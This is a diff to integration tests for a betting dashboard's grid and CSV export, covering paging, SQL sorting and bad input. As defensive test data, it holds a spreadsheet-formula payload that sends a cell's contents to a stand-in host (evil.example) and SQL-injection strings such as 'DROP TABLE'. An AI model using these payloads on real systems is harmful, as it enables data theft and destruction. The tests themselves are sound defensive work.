@@ -10,7 +10,9 @@ import json
 from app.models import Recommendation
 from tests.integration.bets_data import NOW, seed_bets
 
-OUT = "..bets-table.data...bets-totals.children...bets-note.children...bets-book.options.."
+OUT = "..bets-totals.children...bets-book.options.."
+ROWS = "bets-table.getRowsResponse"
+FIRST_BLOCK = {"startRow": 0, "endRow": 100, "sortModel": [], "filterModel": {}}
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
 
 
@@ -26,10 +28,18 @@ def _inputs(tz="America/New_York", **values):
     return out
 
 
-def _table(client, **values):
+def _table(client, request=None, **values):
+    """The totals callback's answer, and the grid's first block as "bets-table" "data"."""
     r = client.callback(OUT, _inputs(**values))
     assert r.status_code == 200, r.data
-    return json.loads(r.data)["response"]
+    props = json.loads(r.data)["response"]
+    *filters, tz, _tick = _inputs(**values)
+    block = [{"id": "bets-table", "property": "getRowsRequest", "value": request or FIRST_BLOCK}]
+    r = client.callback(ROWS, block, state=[*filters, tz])
+    assert r.status_code == 200, r.data
+    response = json.loads(r.data)["response"]["bets-table"]["getRowsResponse"]
+    props["bets-table"] = {"data": response["rowData"], "count": response["rowCount"]}
+    return props
 
 
 def test_one_row_per_bet_with_names_signs_and_zone(app, login_as, db) -> None:
@@ -77,6 +87,20 @@ def test_filters_and_junk_from_the_browser(login_as, db) -> None:
     assert [r["state"] for r in days] == ["settled"]  # 2026-07-03 14:00 EDT
     junk = _table(client, state={"$ne": 1}, strategy="'; drop", start="not-a-date", end=7)
     assert len(junk["bets-table"]["data"]) == 4  # ignored, never a 500
+
+
+def test_the_grid_gets_blocks_sorted_in_sql(login_as, db) -> None:
+    seed_bets(db)
+    client = login_as("viewer")
+    first = _table(client, {**FIRST_BLOCK, "endRow": 2})["bets-table"]
+    assert len(first["data"]) == 2 and first["count"] == 4  # two sent, four counted
+    rest = _table(client, {**FIRST_BLOCK, "startRow": 2, "endRow": 4})["bets-table"]["data"]
+    assert {r["id"] for r in first["data"]}.isdisjoint({r["id"] for r in rest})
+    by_stake = {**FIRST_BLOCK, "sortModel": [{"colId": "stake", "sort": "desc"}]}
+    stakes = [float(r["stake"].split()[0]) for r in _table(client, by_stake)["bets-table"]["data"]]
+    assert stakes == sorted(stakes, reverse=True)
+    hostile = {**FIRST_BLOCK, "sortModel": [{"colId": "1; DROP TABLE grades", "sort": "asc"}]}
+    assert len(_table(client, hostile)["bets-table"]["data"]) == 4  # an unknown key is dropped
 
 
 def test_csv_is_dated_neutralised_and_follows_filters(app, login_as, db) -> None:
